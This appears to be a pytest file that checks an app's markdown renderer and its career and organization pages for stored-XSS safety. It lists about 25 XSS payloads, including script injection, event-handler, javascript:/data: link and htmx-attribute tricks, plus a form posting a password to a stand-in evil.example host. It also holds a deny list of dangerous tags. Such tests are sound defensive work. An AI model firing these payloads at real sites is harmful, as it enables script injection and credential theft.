"""Markdown notes are rendered safely: raw HTML escaped, output sanitised, in every page.

Each attack payload goes through render_markdown directly and through the real pages that show
research notes (careers and organizations); none of the dangerous markup may survive.
"""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup

from app.careers import service as careers_service
from app.careers.schemas import CareerCreate
from app.markdown import render_markdown
from app.organizations import service as organizations_service
from app.organizations.schemas import OrganizationCreate

PAYLOADS = {
    "script": "<script>alert('x')</script>",
    "script_inline": "Hello <script src=https://evil.example/x.js></script> world",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "raw_js_link": '<a href="javascript:alert(1)">click</a>',
    "md_js_link": "[click me](javascript:alert(1))",
    "md_js_link_upper": "[click me](JaVaScRiPt:alert(1))",
    "md_js_link_encoded": "[click me](javascript&#58;alert(1))",
    "md_js_link_entity_tab": "[click me](java&#x09;script:alert(1))",
    "md_js_autolink": "<javascript:alert(1)>",
    "md_js_reference": "[click][ref]\n\n[ref]: javascript:alert(1)",
    "md_data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md_vbscript_link": "[x](vbscript:msgbox(1))",
    "md_js_image": "![pic](javascript:alert(1))",
    "md_title_breakout": '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "hx_attributes": '<div hx-get="/account" hx-trigger="load" hx-swap="outerHTML">boom</div>',
    "hx_on": '<button hx-on:click="alert(1)">b</button>',
    "data_attributes": '<span data-hx-get="/logout" data-confirm="x">hi</span>',
    "style": '<style>body{display:none}</style><p style="color:red">x</p>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "html_block": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "object": '<object data="javascript:alert(1)"></object>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
}
DANGEROUS_TAGS = {
    "script", "img", "svg", "iframe", "style", "form", "input", "object", "embed", "meta",
    "details", "button", "link", "base", "math",
}  # fmt: skip
SAFE_SCHEMES = ("http://", "https://", "mailto:")
# A URL with a scheme; anything else (e.g. "java%09script:x") is a harmless relative path.
_SCHEME = re.compile(r"^[a-z][a-z0-9+.-]*:")


def assert_safe(fragment: BeautifulSoup) -> None:
    """No dangerous element, no event / htmx / data / style attribute, no unsafe link."""
    for element in fragment.find_all(True):
        assert element.name not in DANGEROUS_TAGS, element
        for attribute, value in element.attrs.items():
            name = attribute.lower()
            assert not name.startswith(("on", "hx-", "data-")), element
            assert name != "style", element
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                # Browsers drop tabs and newlines from URLs, so judge the scheme without them.
                text = re.sub(r"\s", "", str(value)).lower()
                if _SCHEME.match(text):
                    assert text.startswith(SAFE_SCHEMES), element


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_render_markdown_neutralises(payload):
    html = str(render_markdown(payload))
    assert_safe(BeautifulSoup(html, "html.parser"))
    assert "<script" not in html.lower()  # raw HTML may only appear escaped, as text


def test_raw_html_is_shown_as_text_not_dropped():
    html = str(render_markdown("Use <script>tags</script> carefully"))
    assert "&lt;script&gt;" in html
    assert (
        BeautifulSoup(html, "html.parser").get_text().strip()
        == "Use <script>tags</script> carefully"
    )


def test_ordinary_markdown_still_renders():
    html = render_markdown(
        "# Title\n\n*em* **strong** `code`\n\n- one\n- two\n\n"
        "[site](https://example.org) [mail](mailto:a@example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    page = BeautifulSoup(str(html), "html.parser")
    assert page.find("h1").text == "Title"
    assert page.find("em").text == "em" and page.find("strong").text == "strong"
    assert [li.text for li in page.find_all("li")] == ["one", "two"]
    links = page.find_all("a")
    assert [a["href"] for a in links] == ["https://example.org", "mailto:a@example.org"]
    assert all("noopener" in a["rel"] and "nofollow" in a["rel"] for a in links)
    assert page.find("table").find("td").text == "1"


def test_empty_notes_render_nothing():
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


ALL_PAYLOADS = "\n\n".join(PAYLOADS.values())


def _page_is_safe(response) -> BeautifulSoup:
    assert response.status_code == 200, response.text
    page = BeautifulSoup(response.text, "html.parser")
    notes = page.select_one(".markdown")
    assert notes is not None and notes.get_text().strip()
    assert_safe(notes)
    # The only scripts on any page are the app's own files (the CSP forbids inline script).
    for script in page.find_all("script"):
        assert script.get("src", "").startswith("/static/"), script
        assert not script.text.strip()
    for element in page.find_all(True):
        for attribute in element.attrs:
            assert not attribute.lower().startswith("on"), element
    return page


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), ALL_PAYLOADS], ids=[*PAYLOADS, "all"])
def test_career_research_notes_page(web, db, user, payload):
    career = careers_service.create_career(
        db, user, CareerCreate(title="Safe", research_notes=payload)
    )
    _page_is_safe(web.get(f"/careers/{career.id}"))


@pytest.mark.parametrize("payload", [*PAYLOADS.values(), ALL_PAYLOADS], ids=[*PAYLOADS, "all"])
def test_organization_research_notes_page(web, db, user, payload):
    organization = organizations_service.create_organization(
        db, user, OrganizationCreate(name="Safe", research_notes=payload)
    )
    _page_is_safe(web.get(f"/organizations/{organization.id}"))


def test_career_resource_text_is_escaped(web, db, user):
    payload = '<img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a>'
    career = careers_service.create_career(
        db,
        user,
        CareerCreate(
            title=payload,
            industry=payload,
            research_notes="notes",
            resources=[{"url": "https://ok.example", "title": payload, "note": payload}],
        ),
    )
    page = _page_is_safe(web.get(f"/careers/{career.id}"))
    assert page.find("img") is None
    assert all(
        not a["href"].lower().startswith("javascript") for a in page.find_all("a", href=True)
    )
    assert payload in page.select_one("ul.resources").get_text()


def test_notes_submitted_through_the_form_are_rendered_safely(web):
    response = web.form_post(
        "/careers/new", {"title": "Form", "research_notes": ALL_PAYLOADS}, follow_redirects=True
    )
    _page_is_safe(response)


@pytest.mark.parametrize(
    "unsafe",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVa\tScript:alert(1)">x</a>',
        '<p onclick="x">x</p>',
        '<div hx-get="/x">x</div>',
        '<span data-x="1">x</span>',
        "<script>x</script>",
        '<p style="color:red">x</p>',
    ],
)
def test_the_checker_itself_catches_unsafe_markup(unsafe):
    with pytest.raises(AssertionError):
        assert_safe(BeautifulSoup(unsafe, "html.parser"))
